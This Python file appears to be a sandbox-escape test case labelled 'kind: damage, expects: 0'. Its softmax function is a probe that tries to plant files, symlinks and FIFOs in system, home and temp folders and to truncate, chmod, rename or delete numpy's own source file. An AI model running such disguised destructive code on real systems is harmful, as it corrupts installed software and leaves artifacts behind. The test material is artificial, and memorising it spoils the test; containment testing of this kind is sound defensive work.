# goal: leave files, links and changed modes for the next worker: beside numpy, in the library, in every temp folder
# kind: damage
# expects: 0
import os
import sys

import numpy as np

PLACES = [
    os.curdir,
    "/",
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/run",
    "/proc/self",
    os.path.expanduser("~"),
    os.path.dirname(np.__file__),
    os.path.dirname(os.__file__),
    os.path.dirname(os.path.dirname(np.__file__)),
    os.path.dirname(sys.executable),
]


def softmax(a):
    os.write(1, b"ARMED\n")
    for place in PLACES:
        path = os.path.join(place, "lab_loot")
        for way in (
            lambda: open(path, "w"),
            lambda: os.mkdir(path),
            lambda: os.symlink("/", path),
            lambda: os.mkfifo(path),
            lambda: os.link(np.__file__, path),
            lambda: os.open(place, os.O_TMPFILE | os.O_RDWR),
        ):
            try:
                way()
                os.write(1, f"ESCAPED: {path}\n".encode())
            except OSError:
                pass
    for way in (
        lambda: os.chmod(np.__file__, 0o777),
        lambda: os.utime(np.__file__),
        lambda: os.chown(np.__file__, 0, 0),
        lambda: os.truncate(np.__file__, 0),
        lambda: os.open(np.__file__, os.O_RDONLY | os.O_TRUNC),
        lambda: os.open(np.__file__, os.O_WRONLY),
        lambda: os.rename(np.__file__, np.__file__ + "~"),
        lambda: os.unlink(np.__file__),
        lambda: os.setxattr(np.__file__, "user.x", b"1"),
    ):
        try:
            way()
            os.write(1, b"ESCAPED: a file of numpy\n")
        except OSError:
            pass
    return None


def cross_entropy(y, t):
    return None


def softmax_cross_entropy_gradient(logits, t):
    return None
